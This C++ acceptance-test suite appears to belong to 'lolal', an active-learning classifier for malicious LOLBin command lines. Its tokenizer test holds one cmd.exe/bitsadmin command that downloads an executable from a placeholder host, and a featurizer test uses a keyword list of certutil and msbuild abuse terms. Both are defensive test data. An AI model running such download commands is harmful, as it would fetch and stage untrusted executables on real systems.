// Runs every acceptance criterion and prints one PASS/FAIL line for each.
// Exit status is non-zero when any criterion fails.

#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <filesystem>
#include <functional>
#include <iostream>
#include <map>
#include <random>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "datasets.hpp"
#include "httplib.h"
#include "json.hpp"
#include "lolal/active_learner.hpp"
#include "lolal/classifiers.hpp"
#include "lolal/experiment.hpp"
#include "lolal/featurizer.hpp"
#include "lolal/io.hpp"
#include "lolal/naive_bayes.hpp"
#include "lolal/synth_corpus.hpp"
#include "lolal/token_scorer.hpp"
#include "lolal/tokenizer.hpp"
#include "oracles.hpp"
#include "sgns_check.hpp"

#ifndef LOLAL_CLI_PATH
#error "LOLAL_CLI_PATH must point at the lolal executable"
#endif

using namespace lolal;
namespace fs = std::filesystem;
using nlohmann::json;
using Clock = std::chrono::steady_clock;

namespace {

struct Outcome {
  bool pass = true;
  std::ostringstream detail;

  void require(bool ok, const std::string& what) {
    if (!ok) {
      pass = false;
      detail << "[failed: " << what << "] ";
    }
  }
};

double seconds_since(Clock::time_point start) {
  return std::chrono::duration<double>(Clock::now() - start).count();
}

fs::path scratch_dir(const std::string& name) {
  const fs::path dir = fs::temp_directory_path() / ("lolal_acceptance_" + std::to_string(::getpid())) / name;
  fs::remove_all(dir);
  fs::create_directories(dir);
  return dir;
}

// 1
void tokenizer_criterion(Outcome& o) {
  const auto start = Clock::now();
  const auto seq = tokenize_line(
      "cmd.exe /c bitsadmin.exe  /transfer getitman /download /priority high http://domain.com/suspic.exe  "
      "C:\\Users\\  Temp\\30304050.exe");
  const std::vector<std::string> expected = {"cmd",      "exe",      "c",    "bitsadmin", "exe",    "transfer", "getitman",
                                             "download", "priority", "high", "http",      "domain", "com",      "suspic",
                                             "exe",      "c",        "users", "temp",     "30304050", "exe"};
  o.require(oracle::word_tokens(seq.tokens) == expected, "worked example word tokens");

  std::mt19937_64 gen(2024);
  const std::string alphabet =
      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789      \t,./-:;\\=\"'()[]{}&|<>@?!%+_~#$*";
  std::uniform_int_distribution<std::size_t> len(0, 160), pick(0, alphabet.size() - 1);
  std::vector<std::string> commands;
  std::vector<RawSample> corpus;
  for (int i = 0; i < 10000; ++i) {
    std::string cmd;
    for (std::size_t k = 0, n = len(gen); k < n; ++k) cmd.push_back(alphabet[pick(gen)]);
    commands.push_back(cmd);
    if (i < 2000) corpus.push_back({std::to_string(i), "", cmd, Lolbin::Msbuild, {}});
  }
  const Vocabulary vocab = build_vocabulary(corpus, 5);
  std::size_t round_trip_failures = 0, idempotence_failures = 0;
  for (const auto& cmd : commands) {
    const auto tokens = tokenize_line(cmd);
    std::string joined;
    for (const auto& t : tokens.tokens) joined += t;
    if (joined != oracle::strip_space_lower(cmd) || tokens.tokens != oracle::tokenize(cmd)) ++round_trip_failures;
    const auto once = normalize(tokens, vocab);
    if (normalize(once, vocab) != once) ++idempotence_failures;
  }
  const double elapsed = seconds_since(start);
  o.require(round_trip_failures == 0, "round trip");
  o.require(idempotence_failures == 0, "idempotence");
  o.require(elapsed < 10.0, "runtime < 10 s");
  o.detail << "20/20 word tokens, 10000 fuzzed commands, round-trip failures " << round_trip_failures
           << ", idempotence failures " << idempotence_failures << ", " << elapsed << " s";
}

// 2
void gradient_criterion(Outcome& o) {
  const auto start = Clock::now();
  double worst = 0.0;
  for (EmbeddingMode mode : {EmbeddingMode::Word2Vec, EmbeddingMode::FastText}) {
    auto model = oracle::random_embedding_model(mode, 77);
    std::mt19937_64 gen(mode == EmbeddingMode::FastText ? 5 : 6);
    double mode_worst = 0.0;
    for (int i = 0; i < 100; ++i) {
      mode_worst = std::max(mode_worst, oracle::sgns_gradient_error(model, oracle::random_example(model, gen)));
    }
    o.require(mode_worst <= 1e-4, std::string(to_string(mode)) + " relative error");
    o.detail << to_string(mode) << " worst relative error " << mode_worst << "; ";
    worst = std::max(worst, mode_worst);
  }
  const double elapsed = seconds_since(start);
  o.require(elapsed < 30.0, "runtime < 30 s");
  o.detail << "100 triples per mode, " << elapsed << " s";
}

// 3
void score_criterion(Outcome& o) {
  std::mt19937_64 gen(31);
  std::normal_distribution<double> n(0, 1);
  std::size_t compared = 0, mismatches = 0;
  for (std::size_t trees = 1; trees <= 3; ++trees) {
    for (int rep = 0; rep < 5; ++rep) {
      Matrix x(120, 6);
      for (double& v : x.data()) v = n(gen);
      std::vector<int> y(120);
      for (std::size_t i = 0; i < y.size(); ++i) y[i] = x(i, 0) + 0.7 * n(gen) > 0 ? 1 : 0;
      ForestConfig config;
      config.n_trees = trees;
      config.max_depth = 2 + rep;
      config.seed = trees * 10 + rep;
      const RandomForest forest = fit_token_forest(x, y, config);
      for (int q = 0; q < 200; ++q) {
        std::vector<double> row(6);
        for (double& v : row) v = n(gen) * 1.5;
        ++compared;
        if (score_token(forest, row) != oracle::forest_score(forest, row)) ++mismatches;
      }
    }
  }
  o.require(mismatches == 0, "score equals brute-force leaf mean");

  // Two isolated tokens among tokens seen with both labels.
  Matrix x(0, 0);
  std::vector<int> y;
  std::vector<double> mult;
  auto add = [&](std::vector<double> row, int label, double count) {
    x.append_row(row);
    y.push_back(label);
    mult.push_back(count);
  };
  const std::vector<double> malicious_token = {2.0, 2.0, 2.0, 1.0, 0.0};
  const std::vector<double> benign_token = {-2.0, -2.0, -2.0, 1.0, 0.0};
  add(malicious_token, 1, 30);
  add(benign_token, 0, 30);
  for (int t = 0; t < 40; ++t) {
    std::vector<double> row = {n(gen) * 0.3, n(gen) * 0.3, n(gen) * 0.3, 0.0, 1.0};
    add(row, 0, 3);
    add(row, 1, 2);
  }
  const RandomForest forest = fit_token_forest(x, y, ForestConfig{}, mult);
  const double pos = score_token(forest, malicious_token), neg = score_token(forest, benign_token);
  o.require(pos == 1.0, "pure malicious token scores 1");
  o.require(neg == 0.0, "pure benign token scores 0");
  o.detail << compared << " queries on 1-3 tree forests, " << mismatches << " mismatches; pure tokens " << pos
           << " / " << neg;
}

// 4
void featurize_criterion(Outcome& o) {
  std::mt19937_64 gen(41);
  const std::vector<std::string> words = {"certutil", "urlcache", "split", "decode", "http", "exe", "msbuild",
                                          "xml",      "plugin",   "install", "quiet", "scrobj", "sct", "jetbrains"};
  std::uniform_int_distribution<std::size_t> pick(0, words.size() + 5), len(1, 25);
  std::uniform_real_distribution<double> u(0, 1);
  std::size_t samples = 0, order_failures = 0, bound_failures = 0;
  for (auto [dim, lolbins] : std::vector<std::pair<std::size_t, std::size_t>>{{4, 2}, {8, 3}, {16, 5}}) {
    EmbeddingConfig ec;
    ec.dim = dim;
    const EmbeddingModel emb(ec, words);
    std::vector<RawSample> corpus;
    for (int i = 0; i < 20; ++i) corpus.push_back({"", "", "certutil urlcache split decode http exe msbuild xml plugin install quiet", Lolbin::Certutil, {}});
    const Vocabulary vocab = build_vocabulary(corpus, 5);
    TokenScoreTable scores;
    for (const auto& w : words) {
      for (std::size_t l = 0; l < lolbins; ++l) scores.set(w, static_cast<Lolbin>(l), u(gen));
    }
    const std::size_t expected = 3 * dim + 5 + lolbins;
    o.require(feature_width(FeatureSet::ScoresVectorsWeighted, dim, lolbins) == expected, "width formula");
    for (int s = 0; s < 1000; ++s) {
      std::vector<std::string> parts;
      for (std::size_t k = 0, n = len(gen); k < n; ++k) {
        const std::size_t w = pick(gen);
        parts.push_back(w < words.size() ? words[w] : (w == words.size() ? std::to_string(gen() % 100000) : "rnd" + std::to_string(gen() % 7)));
      }
      auto command = [](const std::vector<std::string>& p) {
        std::string c;
        for (const auto& t : p) c += t + " ";
        return c;
      };
      const Lolbin bin = static_cast<Lolbin>(gen() % lolbins);
      const RawSample a{"a", "", command(parts), bin, {}};
      std::shuffle(parts.begin(), parts.end(), gen);
      const RawSample b{"b", "", command(parts), bin, {}};
      const auto fa = featurize(a, emb, scores, vocab, FeatureSet::ScoresVectorsWeighted, lolbins);
      const auto fb = featurize(b, emb, scores, vocab, FeatureSet::ScoresVectorsWeighted, lolbins);
      ++samples;
      if (fa.values.size() != expected) o.require(false, "feature length");
      if (fa.values != fb.values) ++order_failures;
      for (std::size_t j = 0; j < dim; ++j) {
        if (!(fa.values[j] <= fa.values[dim + j])) ++bound_failures;
      }
    }
  }
  o.require(order_failures == 0, "permutation-free");
  o.require(bound_failures == 0, "min <= max");
  o.detail << samples << " fuzzed samples over (4,2) (8,3) (16,5); order failures " << order_failures
           << ", min>max " << bound_failures;
}

// 5
void anomaly_uncertainty_criterion(Outcome& o) {
  const double pi = std::acos(-1.0);
  double worst = 0.0;
  for (std::size_t d : {1, 5, 58}) {
    const NaiveBayesModel m({{0, ClassDensity{4, Vector(d, 0.0), Vector(d, 1.0)}}}, d);
    worst = std::max(worst, std::abs(m.anomaly_score(Vector(d, 0.0), 0) - 0.5 * static_cast<double>(d) * std::log(2 * pi)));
    // Fitted class: points symmetric around a mean with unit population variance.
    std::vector<Vector> pts = {Vector(d, 2.0), Vector(d, 4.0)};
    const NaiveBayesModel f = fit_nb(std::map<int, std::vector<Vector>>{{1, pts}});
    worst = std::max(worst, std::abs(f.anomaly_score(Vector(d, 3.0), 1) - 0.5 * static_cast<double>(d) * std::log(2 * pi)));
  }
  o.require(worst <= 1e-9, "anomaly at class mean");
  const double u1 = uncertainty_score(std::vector<double>{0.5, 0.5});
  const double u2 = uncertainty_score(std::vector<double>{1.0, 0.0});
  const double u3 = uncertainty_score(std::vector<double>{0.6, 0.3, 0.1});
  o.require(u1 == 0.0, "U(0.5,0.5) = 0");
  o.require(u2 == -1.0, "U(1,0) = -1");
  o.require(u3 == -0.3, "U(0.6,0.3,0.1) = -0.3");
  o.detail << "max |A - (d/2)log(2pi)| = " << worst << "; U = " << u1 + 0.0 << ", " << u2 << ", " << u3;
}

// 6
void round_robin_criterion(Outcome& o) {
  std::size_t states = 0, mismatches = 0;
  for (std::uint64_t seed = 0; seed < 200; ++seed) {
    std::mt19937_64 gen(seed);
    std::uniform_int_distribution<int> cls(0, 2);
    std::uniform_real_distribution<double> u(-1, 0), a(0, 30);
    std::vector<Candidate> cands;
    for (std::size_t i = 0; i < 20; ++i) {
      double uu = u(gen), aa = a(gen);
      if (seed % 3 == 0) {
        uu = std::round(uu * 3) / 3;
        aa = std::round(aa / 10);
      }
      cands.push_back({i, seed % 5 == 0 ? cls(gen) % 2 : cls(gen), uu, aa});
    }
    std::vector<oracle::Ranked> got;
    for (const auto& e : rank_round_robin(cands, 3)) got.push_back({e.index, std::string(to_string(e.reason))});
    ++states;
    if (got != oracle::round_robin(cands, 3)) ++mismatches;
  }
  o.require(mismatches == 0, "queue equals reference ranking");
  o.detail << states << " random 20-sample 3-class states, " << mismatches << " mismatches";
}

// 7
void xor_criterion(Outcome& o) {
  const auto start = Clock::now();
  Matrix x;
  std::vector<int> y;
  oracle::xor_dataset(50, 3, x, y);
  auto accuracy = [&](ClassifierKind kind) {
    ClassifierConfig config;
    config.kind = kind;
    const Classifier model = fit_classifier(x, y, 2, config);
    std::size_t correct = 0;
    for (std::size_t i = 0; i < x.rows(); ++i) correct += model.predict(x.row(i)).label == y[i];
    return static_cast<double>(correct) / static_cast<double>(x.rows());
  };
  const double boosted = accuracy(ClassifierKind::Boosted);
  const double logistic = accuracy(ClassifierKind::Logistic);
  const double elapsed = seconds_since(start);
  o.require(boosted == 1.0, "boosted accuracy 1.0");
  o.require(logistic <= 0.75, "logistic accuracy <= 0.75");
  o.require(elapsed < 60.0, "runtime < 60 s");
  o.detail << "boosted " << boosted << ", logistic " << logistic << ", " << elapsed << " s";
}

// 8
void trend_criterion(Outcome& o) {
  const auto start = Clock::now();
  const Corpus corpus = generate_corpus(CorpusSpec{});
  AlExperimentConfig config;
  config.strategies = {Strategy::Lolal, Strategy::Random};
  config.iterations = 50;
  config.batch_size = 5;
  config.seed_labels = 10;
  config.runs = 5;
  const AlReport report = run_al_experiment(corpus.labeled, corpus.unlabeled, config);
  const double lolal20 = report.macro_f1(Strategy::Lolal, 20).mean;
  const double random20 = report.macro_f1(Strategy::Random, 20).mean;
  const double lolal30 = report.macro_f1(Strategy::Lolal, 30).mean;
  const double lolal50 = report.macro_f1(Strategy::Lolal, 50).mean;
  o.require(lolal20 >= random20 + 0.03, "(a) LOLAL F1@20 >= Random F1@20 + 0.03");
  o.require(std::abs(lolal30 - lolal50) <= 0.02, "(b) |F1@30 - F1@50| <= 0.02");
  std::ostringstream per_class;
  for (std::size_t c = 0; c < kClassCount; ++c) {
    const double p5 = report.precision(Strategy::Lolal, 5, c).mean, p30 = report.precision(Strategy::Lolal, 30, c).mean;
    const double r5 = report.recall(Strategy::Lolal, 5, c).mean, r30 = report.recall(Strategy::Lolal, 30, c).mean;
    o.require(p30 >= p5, "(c) precision@30 >= @5 for " + std::string(to_string(label_from_index(static_cast<int>(c)))));
    o.require(r30 >= r5, "(c) %TP@30 >= @5 for " + std::string(to_string(label_from_index(static_cast<int>(c)))));
    per_class << " " << to_string(label_from_index(static_cast<int>(c))) << " P " << p5 << "->" << p30 << " R " << r5
              << "->" << r30 << ";";
  }
  const double elapsed = seconds_since(start);
  o.require(elapsed < 15 * 60.0, "runtime < 15 min");
  o.detail << "F1@20 LOLAL " << lolal20 << " vs Random " << random20 << "; LOLAL F1@30 " << lolal30 << " F1@50 "
           << lolal50 << ";" << per_class.str() << " " << elapsed << " s";
}

int run_process(const std::vector<std::string>& args) {
  const pid_t pid = fork();
  if (pid == 0) {
    std::vector<char*> argv;
    for (const auto& a : args) argv.push_back(const_cast<char*>(a.c_str()));
    argv.push_back(nullptr);
    if (!freopen("/dev/null", "w", stdout)) _exit(126);
    execv(argv[0], argv.data());
    _exit(127);
  }
  int status = 0;
  waitpid(pid, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

// 9
void reproducibility_criterion(Outcome& o) {
  const fs::path dir = scratch_dir("simulate");
  CorpusSpec spec;
  spec.scale = 0.2;
  spec.unlabeled_size = 200;
  const Corpus corpus = generate_corpus(spec);
  write_corpus((dir / "data.jsonl").string(), corpus.labeled);
  write_corpus((dir / "pool.jsonl").string(), corpus.unlabeled);
  std::vector<std::string> outputs;
  for (const char* name : {"a", "b"}) {
    const int code = run_process({LOLAL_CLI_PATH, "simulate", "--strategy", "lolal,random", "--iters", "8", "--batch",
                                  "5", "--seed-labels", "10", "--runs", "2", "--epochs", "5", "--corpus",
                                  (dir / "data.jsonl").string(), "--pool", (dir / "pool.jsonl").string(), "--out",
                                  (dir / name).string(), "--quiet"});
    o.require(code == 0, std::string("simulate run ") + name + " exit code");
    std::string all;
    for (const char* file : {"report.json", "curves.csv", "snapshots.csv"}) {
      all += read_file((dir / name / file).string());
    }
    for (const auto& entry : fs::directory_iterator(dir / name / "checkpoints")) {
      all += entry.path().filename().string() + read_file(entry.path().string());
    }
    outputs.push_back(all);
  }
  o.require(outputs[0] == outputs[1], "identical outputs");
  o.detail << "two `lolal simulate` runs: " << outputs[0].size() << " bytes of report, curves, snapshots and "
           << "checkpoints, identical = " << (outputs[0] == outputs[1] ? "yes" : "no");
}

struct ServerProcess {
  pid_t pid = -1;
  int port = -1;

  ServerProcess(const fs::path& dir) {
    int fds[2];
    if (pipe(fds) != 0) throw std::runtime_error("pipe failed");
    pid = fork();
    if (pid == 0) {
      dup2(fds[1], STDOUT_FILENO);
      close(fds[0]);
      close(fds[1]);
      const std::vector<std::string> args = {LOLAL_CLI_PATH, "serve", "--corpus", (dir / "corpus.jsonl").string(),
                                             "--pool", (dir / "pool.jsonl").string(), "--state", (dir / "state").string(),
                                             "--epochs", "5", "--port", "0"};
      std::vector<char*> argv;
      for (const auto& a : args) argv.push_back(const_cast<char*>(a.c_str()));
      argv.push_back(nullptr);
      execv(argv[0], argv.data());
      _exit(127);
    }
    close(fds[1]);
    std::string line;
    char c;
    while (read(fds[0], &c, 1) == 1 && c != '\n') line.push_back(c);
    close(fds[0]);
    const auto colon = line.rfind(':');
    if (line.rfind("listening on", 0) != 0 || colon == std::string::npos) {
      kill_hard();
      throw std::runtime_error("server did not start: " + line);
    }
    port = std::stoi(line.substr(colon + 1));
  }

  void kill_hard() {
    if (pid > 0) {
      ::kill(pid, SIGKILL);
      waitpid(pid, nullptr, 0);
      pid = -1;
    }
  }
  ~ServerProcess() { kill_hard(); }
};

// 10
void durability_criterion(Outcome& o) {
  const fs::path dir = scratch_dir("serve");
  CorpusSpec spec;
  spec.scale = 0.1;
  spec.unlabeled_size = 150;
  const Corpus corpus = generate_corpus(spec);
  write_corpus((dir / "corpus.jsonl").string(), corpus.labeled);
  write_corpus((dir / "pool.jsonl").string(), corpus.unlabeled);
  std::map<std::string, std::string> truth;
  for (const auto& s : corpus.unlabeled) truth[s.id] = std::string(to_string(*s.label));

  std::string session, before;
  {
    ServerProcess server(dir);
    httplib::Client client("127.0.0.1", server.port);
    client.set_read_timeout(600);
    auto created = client.Post("/sessions", "{}", "application/json");
    o.require(created && created->status == 201, "create session");
    session = json::parse(created->body)["session_id"];
    const std::string base = "/sessions/" + session;
    auto items = json::parse(client.Get(base + "/queue")->body)["items"];
    for (std::size_t i = 0; i < 5; ++i) {
      const std::string sid = items[i]["sample_id"];
      const json body = {{"sample_id", sid}, {"label", truth[sid]}, {"analyst_id", "scripted"}};
      client.Post(base + "/labels", body.dump(), "application/json");
    }
    auto advanced = client.Post(base + "/iterate", "", "application/json");
    o.require(advanced && advanced->status == 200, "iterate");
    items = json::parse(client.Get(base + "/queue")->body)["items"];

    // Eight analysts race for the same sample.
    const std::string target = items[0]["sample_id"];
    std::atomic<int> winners{0}, rejected{0};
    std::vector<std::thread> racers;
    for (int w = 0; w < 8; ++w) {
      racers.emplace_back([&, w] {
        httplib::Client c("127.0.0.1", server.port);
        const json body = {{"sample_id", target}, {"label", truth[target]}, {"analyst_id", "analyst" + std::to_string(w)}};
        auto res = c.Post(base + "/labels", body.dump(), "application/json");
        if (res && res->status == 200) ++winners;
        if (res && res->status == 409 && res->body.find("already labeled") != std::string::npos) ++rejected;
      });
    }
    for (auto& t : racers) t.join();
    o.require(winners == 1, "exactly one winner");
    o.require(rejected == 7, "seven rejections");
    o.detail << "duplicate submissions: " << winners << " accepted, " << rejected << " rejected; ";

    before = client.Get(base + "/queue")->body;
    server.kill_hard();
  }
  ServerProcess restarted(dir);
  httplib::Client client("127.0.0.1", restarted.port);
  auto after = client.Get("/sessions/" + session + "/queue");
  o.require(after && after->status == 200, "queue after restart");
  const bool same = after && after->body == before;
  o.require(same, "identical queue after SIGKILL and restart");
  o.detail << "queue after SIGKILL/restart identical = " << (same ? "yes" : "no") << " ("
           << json::parse(before)["items"].size() << " pending items, iteration "
           << json::parse(before)["iteration"] << ")";
}

}  // namespace

int main(int argc, char** argv) {
  const std::vector<std::pair<std::string, std::function<void(Outcome&)>>> criteria = {
      {"1 tokenizer worked example, round trip, idempotence", tokenizer_criterion},
      {"2 embedding gradients vs finite differences", gradient_criterion},
      {"3 token score equals brute-force leaf mean", score_criterion},
      {"4 feature length, min<=max, permutation-free", featurize_criterion},
      {"5 anomaly at class mean and uncertainty values", anomaly_uncertainty_criterion},
      {"6 round-robin queue equals reference ranking", round_robin_criterion},
      {"7 boosted vs logistic on XOR", xor_criterion},
      {"8 active-learning trend", trend_criterion},
      {"9 simulate is bit-reproducible", reproducibility_criterion},
      {"10 service durability and single winner", durability_criterion},
  };
  // Optional filter: run only criteria whose number is listed.
  std::vector<std::string> only(argv + 1, argv + argc);
  int failed = 0;
  for (const auto& [name, fn] : criteria) {
    const std::string number = name.substr(0, name.find(' '));
    if (!only.empty() && std::find(only.begin(), only.end(), number) == only.end()) continue;
    Outcome o;
    try {
      fn(o);
    } catch (const std::exception& e) {
      o.pass = false;
      o.detail << "exception: " << e.what();
    }
    failed += o.pass ? 0 : 1;
    std::cout << (o.pass ? "PASS" : "FAIL") << " [" << name << "] " << o.detail.str() << std::endl;
  }
  fs::remove_all(fs::temp_directory_path() / ("lolal_acceptance_" + std::to_string(::getpid())));
  return failed == 0 ? 0 : 1;
}
